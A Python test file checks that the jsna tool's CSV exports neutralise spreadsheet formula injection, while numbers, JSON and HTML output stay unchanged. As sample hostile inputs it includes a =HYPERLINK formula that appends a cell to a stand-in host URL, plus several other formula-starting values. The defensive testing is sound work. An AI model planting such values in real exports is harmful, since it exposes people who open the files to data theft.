"""Safety of what jsna writes: no CSV cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from conftest import CONFIG, INDICATORS, write_project
from jsna.cli import main
from jsna.compute.opendata import csv_text
from test_build import Page

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
NUMBERS = {"value", "per", "numerator", "denominator", "lower_95", "upper_95", "lower_99_8", "upper_99_8", "comparator_value"}
TITLE = '=HYPERLINK("https://example.invalid/?x="&A1,"Click")'
# Every kind of editor's text that reaches a CSV (a title, categories, a comparator, a period,
# notes, a source), as the clean project has it (quoted where it is) and as the hostile one does.
TEXTS = {
    "Contacts to children's social care": TITLE,
    "Police": "+Police",
    "Schools": "-Schools",
    "North East": "@SUM(1+1)",
    '"2016"': "\t2016",
    '"from the 8% decrease stated for 2013-14"': "=1+1",
    "a note": "=2+2;@3+3",
    "Test Council": "-Test Council",
}


def _project(root: Path, hostile: bool) -> Path:
    """The tiny project with a note and a later period, its texts clean or hostile."""
    indicators = INDICATORS.replace("2013-14: 7541", "2013-14: {value: 7541, note: a note}").replace(
        '"2015": 347.7', '"2015": 347.7\n      "2016": 300'
    )
    config = CONFIG
    for plain, bad in TEXTS.items():
        indicators = indicators.replace(plain, json.dumps(bad) if hostile else plain)
        config = config.replace(plain, json.dumps(bad) if hostile else plain)
    return write_project(root, {"indicators.yaml": indicators, "jsna.yaml": config})


def _build(project: Path) -> Path:
    out = project / "site"
    assert main(["build", "--project", str(project), "--out", str(out), "--no-pdf", "-q"]) == 0
    return out


def _csvs(out: Path) -> dict[str, list[list[str]]]:
    return {
        str(path.relative_to(out)): list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"), newline="")))
        for path in sorted(out.rglob("*.csv"))
    }


def test_no_csv_cell_starts_a_formula_and_numbers_json_and_html_are_as_written(tmp_path):
    clean = _csvs(_build(_project(tmp_path / "clean", hostile=False)))
    out = _build(_project(tmp_path / "hostile", hostile=True))
    written = _csvs(out)
    assert written.keys() == clean.keys() and any("figure-" in name for name in written)
    cells = [cell for rows in written.values() for row in rows for cell in row]
    assert [cell for cell in cells if cell.startswith(FORMULA_START)] == []
    semicolon = [cell for path in out.rglob("*.csv") for row in csv.reader(io.StringIO(path.read_text(), newline=""), delimiter=";") for cell in row]
    assert [cell for cell in semicolon if cell.startswith(FORMULA_START)] == [], "nor where a spreadsheet splits at ;"
    for text in TEXTS.values():
        inert = "'" + text.replace(";@", ";'@")
        assert any(cell.startswith(inert) for cell in cells), f"{text!r} reaches a CSV, made inert"
    for name, rows in clean.items():
        columns = [j for j, column in enumerate(rows[0]) if column in NUMBERS]
        numbers = [[row[j] for j in columns] for row in rows]
        assert any(any(row) for row in numbers) and [[row[j] for j in columns] for row in written[name]] == numbers

    data = json.loads((out / "children-in-need/children-in-need-data.json").read_text(encoding="utf-8"))
    assert {row["indicator"] for row in data["rows"]} == {TITLE, "Children in need"}, "JSON is not a spreadsheet"
    assert TEXTS["North East"] in {c["comparator"] for row in data["rows"] for c in row["comparisons"]}
    text = (out / "children-in-need/index.html").read_text(encoding="utf-8")
    assert TITLE not in text, "escaped in the page's source"
    assert any(caption.startswith(f"Figure 1: {TITLE},") for caption in Page(text).captions), "and shown as written"


def test_csv_text_changes_only_text_that_starts_a_formula_and_keeps_one_row_per_row():
    rows = [(-3.5, "-3.5"), (0, None), ("=1", "a=1"), ("\tx", "\rx"), ("@x", "+x"), ("a\rb", 'a\r\n"b"'),
            ("a;=1", "a; -1")]
    assert list(csv.reader(io.StringIO(csv_text(("a", "b"), rows), newline=""))) == [
        ["a", "b"], ["-3.5", "'-3.5"], ["0", ""], ["'=1", "a=1"], ["'\tx", "'\rx"], ["'@x", "'+x"],
        ["a\rb", 'a\r\n"b"'], ["a;'=1", "a; -1"],
    ]
